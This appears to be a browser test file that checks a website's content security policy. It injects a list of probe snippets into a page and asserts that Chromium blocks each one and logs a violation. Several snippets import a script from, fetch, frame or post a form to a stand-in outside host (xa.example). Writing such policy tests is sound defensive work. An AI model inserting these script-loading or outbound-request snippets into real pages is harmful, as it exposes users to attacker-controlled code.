"""The content security policy in Chromium: it does forbid. That pages live under it: ``test_page_kinds.py``.

All tests of this folder are served with the headers of ``deploy/``; a violation is an error on the
console, and so a failure (``conftest.py``).
"""

from pathlib import Path

import pytest

from tests.browser.conftest import Visit, serve
from tests.browser.library import STORY_KEY

STORY = f"mo-hinh/{STORY_KEY}/"
EXPLORE = "tim-kiem/?q=gop+von"


@pytest.fixture
def width():
    """One is enough: a policy does not look at it."""
    return 1280


@pytest.mark.parametrize("path", ["", "khong/co/trang-nay/", STORY])
def test_every_answer_has_the_header(tabs, site_url, path):
    with tabs.open(site_url, 1280) as page:
        answer = page.goto(site_url + path)
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        assert answer.headers["x-frame-options"] == "DENY"


def test_the_search_box_works_under_the_policy(visit):
    page = visit.open("dia-ban/")
    page.keyboard.press("/")
    page.keyboard.insert_text("gop von")
    page.get_by_role("option").first.wait_for()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.wait_for_url("**/mo-hinh/**", wait_until="load")


def test_the_list_is_downloaded_under_the_policy(visit):
    """The file is made in the page; no directive speaks of what a reader saves."""
    page = visit.open(EXPLORE)
    with page.expect_download() as download:
        page.get_by_role("button", name="Tải danh sách này").click()
    assert Path(download.value.path()).read_bytes().count(b"\r\n") > 1


BREACHES = {
    "script-src-elem": "import('https://xa.example/a.js').catch(() => 0)",
    "style-src-elem": "const s = document.createElement('style'); s.textContent = 'p {}'; document.head.append(s)",
    "style-src-attr": "document.body.setAttribute('style', 'color: red')",
    "img-src": "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='",
    "connect-src": "fetch('https://xa.example/').catch(() => 0)",
    "frame-src": "const f = document.createElement('iframe'); f.src = 'https://xa.example/'; document.body.append(f)",
    "form-action": "const f = document.body.appendChild(document.createElement('form')); "
    "f.action = 'https://xa.example/'; f.submit()",
    "base-uri": "const b = document.createElement('base'); b.href = '/khac/'; document.head.append(b)",
    "media-src": "new Audio('https://xa.example/a.mp3').load()",
    "font-src": "document.fonts.add(new FontFace('x', 'url(https://xa.example/a)')); "
    "document.fonts.load('1px x').catch(() => 0)",
    "require-trusted-types-for": "try { document.body.innerHTML = '<b>x</b>' } catch {}",
    "trusted-types": "try { trustedTypes.createPolicy('x', {}) } catch {}",
}
WATCH = """window.found = [];
addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.found.push(effectiveDirective));"""


@pytest.fixture(scope="module", params=["header", "meta"])
def either_way(request, site_url, site_folder):
    """The site with the headers, and the same pages from a server that sends none of them, as some hosts do."""
    if request.param == "header":
        yield site_url
        return
    server, address = serve(site_folder, headers=())
    yield address
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("directive", sorted(BREACHES))
def test_each_directive_forbids(tabs, either_way, directive):
    """What a script that got in would try; where no server sends the header, the page's own ``<meta>`` holds."""
    with tabs.open(either_way, 1280) as page:
        page.goto(either_way + STORY)
        page.evaluate(WATCH)
        page.evaluate(f"() => {{ {BREACHES[directive]} }}")
        page.wait_for_function("window.found.length")
        assert directive in page.evaluate("window.found")
        assert page.evaluate("window.ran === undefined")


def test_a_visit_sees_a_violation(tabs, site_url):
    """So the tests of this folder can fail."""
    with tabs.open(site_url, 1280) as page:
        seen = Visit(page, site_url)
        seen.open(STORY).evaluate(f"() => {{ {BREACHES['script-src-elem']} }}")
        page.wait_for_timeout(100)
        assert any("policy: script-src-elem https://xa.example/" in line for line in seen.wrong)
